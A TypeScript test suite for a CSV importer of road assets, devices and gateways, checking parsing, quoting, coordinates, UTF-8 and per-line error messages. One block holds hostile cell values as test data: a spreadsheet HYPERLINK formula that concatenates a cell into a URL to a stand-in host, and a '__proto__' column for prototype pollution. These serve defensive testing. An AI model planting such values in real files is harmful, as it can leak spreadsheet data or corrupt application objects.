/** Given a file as people make them, then its rows, or where it is wrong and what was expected. */
import { assetsFromCsv, devicesFromCsv, gatewaysFromCsv } from './import-csv.js';
import { sentence } from './import-row.js';

const limits = { rowsMax: 1_000, bytesMax: 1_000_000 };
const assets = (text: string | Buffer) => assetsFromCsv('a.csv', Buffer.from(text), limits);
const devices = (text: string) => devicesFromCsv('d.csv', Buffer.from(text), limits);
const said = (read: { problems: readonly Parameters<typeof sentence>[0][] }): string[] => read.problems.map(sentence);
const head = 'id,kind,nameVi,nameEn';

describe('files as spreadsheets save them', () => {
  test.each([
    ['plain', `${head}\nx,segment,Phố Huế,Hue Street\n`],
    ['with a byte order mark', `\uFEFF${head}\nx,segment,Phố Huế,Hue Street\n`],
    ['with CRLF', `${head}\r\nx,segment,Phố Huế,Hue Street\r\n`],
    ['with semicolons', 'id;kind;nameVi;nameEn\nx;segment;Phố Huế;Hue Street\n'],
    ['quoted', '"id","kind","nameVi","nameEn"\n"x","segment","Phố Huế","Hue Street"'],
    ['with columns in another order and empty lines', 'nameEn,id,nameVi,kind\n\nHue Street,x,Phố Huế,segment\n\n'],
  ])('%s', (_, text) => {
    const { rows, problems } = assets(text);
    expect(problems).toEqual([]);
    expect(rows.map(({ value }) => value)).toEqual([{ id: 'x', kind: 'segment', nameVi: 'Phố Huế', nameEn: 'Hue Street', parent: null, geometry: null, zone: null, roadClass: null, lanes: null, lengthM: null, freeFlowKmh: null, timeZone: 'Asia/Ho_Chi_Minh' }]);
  });

  test('a quoted cell may hold commas, quotes and line ends other than in names', () => {
    expect(assets(`${head}\nx,segment,"Ngõ 1, ""cũ""",A\n`).rows[0]!.value.nameVi).toBe('Ngõ 1, "cũ"');
    expect(said(assets(`${head}\nx,segment,"hai\ndòng",A\n`))).toEqual(['a.csv, line 3, nameVi: expected text without control characters']);
  });

  test('longitude and latitude make a point, and numbers are numbers', () => {
    const { rows } = assets(`${head},longitude,latitude,lanes,lengthM\nx,segment,A,A,105.85,21.03,3,120.5\n`);
    expect(rows[0]!.value).toMatchObject({ geometry: { type: 'Point', coordinates: [105.85, 21.03] }, lanes: 3, lengthM: 120.5 });
  });

  test('devices and gateways', () => {
    expect(devices('id,domain,asset,replay\nd,traffic,x,true\n').rows[0]!.value).toEqual({ id: 'd', domain: 'traffic', asset: 'x', gateway: null, codec: 'json', replay: true });
    expect(gatewaysFromCsv('g.csv', Buffer.from('id,nameVi,nameEn\ng,Cổng,Gate\n'), limits).rows[0]!.value).toEqual({ id: 'g', nameVi: 'Cổng', nameEn: 'Gate', asset: null });
  });
});

describe('hostile cells are data', () => {
  test('what a spreadsheet would run is kept as it stands in a name, and refused as an id', () => {
    const formula = '=HYPERLINK(""http://x""&A1)';
    expect(assets(`${head}\nx,segment,"${formula}",@SUM(1)\n`).rows[0]!.value).toMatchObject({ nameVi: '=HYPERLINK("http://x"&A1)', nameEn: '@SUM(1)' });
    expect(said(assets(`${head}\n=1+1,segment,A,A\n`))[0]).toMatch(/^a\.csv, line 2, id: expected 1–64 letters/);
  });

  test('NUL, a column named __proto__, and a name of 201 characters', () => {
    expect(said(assets(`${head}\nx,segment,a\u0000b,A\n`))).toEqual(['a.csv, line 2, nameVi: expected text without control characters']);
    expect(said(assets('id,kind,nameVi,nameEn,__proto__\nx,segment,A,A,B\n'))[0]).toMatch(/^a\.csv, line 1: expected columns among id, .*; found "__proto__"$/);
    expect(said(assets(`${head}\nx,segment,${'ă'.repeat(201)},A\n`))[0]).toMatch(/^a\.csv, line 2, nameVi: expected/);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });
});

describe('what is wrong is named by line and field, and does not hide the next row', () => {
  test.each<[string, string, string[]]>([
    ['several fields of one row', `${head},lanes,lengthM\nx,street,A,A,many,1\n`, ['a.csv, line 2, kind: expected "city" or "zone" or', 'a.csv, line 2, lanes: expected a number']],
    ['a decimal comma', `${head},lengthM\nx,segment,A,A,"12,5"\n`, ['a.csv, line 2, lengthM: expected a number, found a string']],
    ['too few cells', `${head}\nx,segment,A\ny,segment,A,A\n`, ['a.csv, line 2: expected 4 cells, found 3']],
    ['a latitude alone', `${head},longitude,latitude\nx,segment,A,A,,21\n`, ['a.csv, line 2, geometry.coordinates[0]: expected a number']],
    ['a latitude beyond the pole', `${head},longitude,latitude\nx,segment,A,A,21,105\n`, ['a.csv, line 2, geometry.coordinates[1]: expected']],
    ['a zone that no map of time knows', `${head},timeZone\nx,segment,A,A,Asia/Hanoi\n`, ['a.csv, line 2, timeZone: expected a time zone such as Asia/Ho_Chi_Minh']],
    ['a quote inside a cell', `${head}\nx,segment,A"B,A\ny,segment,A,A\n`, ['a.csv, line 2: expected quotes only around a whole cell']],
    ['a quote that never ends', `${head}\nx,segment,"A,A\ny,segment,A,A\n`, ['a.csv, line 3: expected quotes']],
    ['a column that is missing', 'id,kind,nameVi\nx,segment,A\n', ['a.csv, line 1: expected the columns nameEn']],
    ['a column twice', 'id,id,kind,nameVi,nameEn\nx,y,segment,A,A\n', ['a.csv, line 1: expected each column once; found "id" again']],
    ['nothing at all', '', ['a.csv, line 1: expected a header line']],
  ])('%s', (_, text, expected) => {
    const found = said(assets(text));
    expect(found).toHaveLength(expected.length);
    for (const [index, start] of expected.entries()) expect(found[index]).toContain(start);
  });

  test('the good rows around a bad one are read', () => {
    expect(assets(`${head}\na,segment,A,A\nb b,segment,B,B\nc,segment,C,C\n`).rows.map(({ value }) => value.id)).toEqual(['a', 'c']);
  });

  test('text that is not UTF-8, such as a Vietnamese file in windows-1258', () => {
    expect(said(assets(Buffer.concat([Buffer.from(`${head}\nx,segment,Ph`), Buffer.from([0xd4, 0xcc]), Buffer.from(',A\n')])))).toEqual(['a.csv, line 1: expected text in UTF-8: save it again as "CSV UTF-8"']);
  });

  test('more rows or bytes than allowed', () => {
    const many = `${head}\n${'x,segment,A,A\n'.repeat(11)}`;
    expect(said(assetsFromCsv('a.csv', Buffer.from(many), { rowsMax: 10, bytesMax: 10_000 }))).toEqual(['a.csv, line 1: expected at most 10 rows, found 11']);
    expect(said(assetsFromCsv('a.csv', Buffer.from(many), { rowsMax: 100, bytesMax: 100 }))).toEqual(['a.csv, line 1: expected at most 100 bytes']);
  });
});
